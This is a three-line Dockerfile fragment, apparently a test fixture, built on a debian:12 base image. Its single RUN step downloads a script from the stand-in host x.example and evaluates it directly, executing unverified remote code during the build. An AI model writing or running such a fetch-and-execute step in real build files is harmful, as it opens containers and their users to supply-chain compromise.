# lines: 3
FROM debian:12
RUN eval "$(wget -O - https://x.example)"
